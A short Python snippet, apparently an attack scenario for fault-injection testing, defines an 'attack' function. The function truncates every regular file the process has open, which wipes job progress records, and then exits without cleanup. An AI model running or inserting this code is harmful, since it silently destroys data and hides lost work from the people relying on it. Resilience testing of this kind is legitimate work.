# what: cut the file that says how far the job has come, so that it seems never to have begun

import os
import stat


def attack():
    for number in range(3, 64):
        try:
            if stat.S_ISREG(os.fstat(number).st_mode):
                os.ftruncate(number, 0)
        except OSError:
            pass
    os._exit(0)
